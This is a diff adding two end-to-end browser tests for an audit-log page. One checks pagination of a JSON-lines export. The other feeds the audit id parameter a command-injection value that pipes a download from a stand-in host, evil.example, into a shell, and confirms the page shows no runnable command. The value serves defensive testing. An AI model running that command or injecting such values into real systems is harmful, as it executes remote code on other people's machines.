@@ -157,4 +157,36 @@ describe('the audit trail', () => {
     await page.getByRole('button', { name: 'Save as JSON lines' }).click()
     await expect.poll(() => page.getByText('Saved:').innerText()).toContain('it is not whole')
   })
+
+  it('puts into no line for a terminal what somebody wrote into the address', async () => {
+    await using somebody = await member(owner)
+    const { page } = somebody
+    await page.goto(`/app/audit?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
+    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
+    expect(await page.getByRole('dialog').locator('pre').count()).toBe(0)
+    expect(await page.getByRole('dialog').getByRole('button', { name: 'Read it' }).count()).toBe(0)
+  })
+
+  it('goes on with the next part where these days have more leaves than one file', async () => {
+    await using somebody = await member(owner)
+    const { page } = somebody
+    const cursors: (string | null)[] = []
+    await page.route(/\/api\/compliance\/audit-logs/, (route) => {
+      const cursor = new URL(route.request().url()).searchParams.get('cursor')
+      cursors.push(cursor)
+      const end = {
+        object: 'audit_export.end',
+        entries: 3,
+        withheld: 0,
+        next_cursor: cursor === null ? '1000000' : null,
+      }
+      return route.fulfill({ body: `${JSON.stringify(end)}\n`, contentType: 'application/x-ndjson' })
+    })
+    await page.goto('/app/audit')
+    await page.getByText('Export the log').click()
+    await page.getByRole('button', { name: 'Save as JSON lines' }).click()
+    await page.getByRole('button', { name: 'Save the next part' }).click()
+    await expect.poll(() => page.getByRole('button', { name: 'Save the next part' }).count()).toBe(0)
+    expect(cursors).toEqual([null, '1000000'])
+  })
 })
